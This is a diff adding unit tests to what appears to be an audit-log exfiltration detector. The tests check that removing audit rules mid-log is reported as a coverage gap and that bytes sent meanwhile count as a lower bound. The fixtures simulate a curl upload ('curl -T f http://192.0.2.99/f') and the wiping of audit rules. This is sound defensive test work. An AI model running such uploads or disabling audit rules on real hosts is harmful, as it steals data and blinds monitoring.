@@ -33,6 +33,23 @@ std::string without(const std::string& text, std::string_view word) {
   return rest;
 }
 
+/// auditctl -D, or its like.
+void change_rules(Log& log, std::string_view op, int rules, std::string_view more = "res=1") {
+  for (int i = 0; i < rules; ++i) {
+    log.record(
+        "CONFIG_CHANGE", log.next_stamp(),
+        fmt::format("auid=1000 ses=9 subj=unconfined op={} key=\"k{}\" list=4 {}", op, i, more));
+  }
+}
+
+/// Sessions that cron opens, which no rule asks for.
+void pass_unaudited(CronHost& log, int hours) {
+  for (int i = 0; i < hours; ++i) {
+    log.pass(3'600'000);
+    log.user("USER_START", CronHost::kCron, "PAM:session_open", "cron");
+  }
+}
+
 void check_partial(const std::string& log, std::string_view reason) {
   const coverage::HostCoverage coverage = coverage_of(log);
   CAPTURE(text_of(coverage));
@@ -224,6 +241,97 @@ TEST_CASE("earned: without close_range a number may be another file's") {
     CronHost log = night({});
     CHECK(add(log, true) == "out 1000 measured");
   }
+}
+
+TEST_CASE("earned: rules that are removed in mid-log leave a hole") {
+  CronHost log = night({});
+  const std::int64_t removed = log.now();
+  const std::string op = GENERATE("remove_rule", "\"remove rule\"", "\"remove_rule\"");
+  CAPTURE(op);
+  change_rules(log, op, 5);
+  pass_unaudited(log, 17);
+  const coverage::HostCoverage coverage = coverage_of(log);
+  CAPTURE(text_of(coverage));
+  CHECK(coverage.verdict == coverage::CoverageVerdict::partial);
+  CHECK(has_reason(coverage, "5 audit rules were removed at 2026-12-02T"));
+  CHECK(
+      has_reason(coverage, "by auid 1000 in session 9; of program starts, connections and calls"));
+  REQUIRE(coverage.gaps.size() == 1);
+  CHECK(coverage.gaps[0].from == removed);
+  CHECK(coverage.gaps[0].to == log.now());
+}
+
+TEST_CASE("earned: a hole of rules ends when they are added, or with a boot") {
+  CronHost log = night({});
+  change_rules(log, "remove_rule", 5);
+  pass_unaudited(log, 17);
+  const std::int64_t end = log.now();
+  SECTION("added") {
+    change_rules(log, "add_rule", 5);
+  }
+  SECTION("boot") {
+    log.at(log.now(), 1);
+    log.record("KERNEL", log.next_stamp(), "state=initialized audit_enabled=0 res=1");
+  }
+  const int curl = log.tool("/usr/bin/curl", {"curl", "-T", "f", "http://192.0.2.99/f"});
+  log.tcp(curl, 5, "192.0.2.99", 80);
+  log.send(curl, 5, 160);
+  log.done(curl, 5);
+  const coverage::HostCoverage coverage = coverage_of(log);
+  CHECK(coverage.verdict == coverage::CoverageVerdict::partial);
+  REQUIRE(coverage.gaps.size() == 1);
+  CHECK(coverage.gaps[0].to == end);
+}
+
+TEST_CASE("earned: what was sent while the rules were gone is a lower bound") {
+  CronHost log = night({});
+  const int curl = log.tool("/usr/bin/curl", {"curl", "-T", "f", "http://192.0.2.99/f"});
+  log.tcp(curl, 5, "192.0.2.99", 80);
+  log.send(curl, 5, 65536);
+  change_rules(log, "remove_rule", 5);
+  pass_unaudited(log, 1);
+  change_rules(log, "add_rule", 5);
+  log.send(curl, 5, 65536);
+  log.done(curl, 5);
+  CHECK(sum(of(tell(log), "192.0.2.99")) == "out 131072 at-least");
+}
+
+TEST_CASE("earned: rules that are loaded anew, or were none of ours, take nothing away") {
+  CronHost log = night({});
+  SECTION("augenrules --load, and nothing after it") {
+    change_rules(log, "remove_rule", 5);
+    log.pass(1000);
+    change_rules(log, "add_rule", 5);
+  }
+  SECTION("it did not succeed") {
+    change_rules(log, "remove_rule", 5, "res=0");
+  }
+  SECTION("one on a folder, which goes with it") {
+    change_rules(log, "remove_rule", 1, "dir=\"/mnt\" res=1");
+  }
+  SECTION("a rule of another list") {
+    log.record("CONFIG_CHANGE", log.next_stamp(), "auid=0 ses=9 op=remove_rule list=5 res=1");
+  }
+  SECTION("a key that reads like it") {
+    log.record("CONFIG_CHANGE", log.next_stamp(),
+               "auid=0 ses=9 op=add_rule key=\"op=remove_rule\" list=4 res=1");
+  }
+  SECTION("a user's message that reads like it") {
+    log.user("USER_CMD", CronHost::kCron, "remove_rule list=4", "?");
+  }
+  CHECK(text_of(coverage_of(log)).empty());
+}
+
+TEST_CASE("earned: a rule that goes takes nothing away while all calls go on") {
+  CronHost log("", {});
+  log.raw(night({}).text());
+  change_rules(log, "remove_rule", 1);
+  std::string more = night({}).text();
+  log.raw(std::regex_replace(more, std::regex("audit\\(1796173(\\d+\\.\\d+):(\\d+)\\)"),
+                             "audit(1796193$1:1$2)"));
+  const coverage::HostCoverage coverage = coverage_of(log);
+  CAPTURE(text_of(coverage));
+  CHECK_FALSE(has_reason(coverage, "audit rules"));
 }
 
 }  // namespace auexfil::test
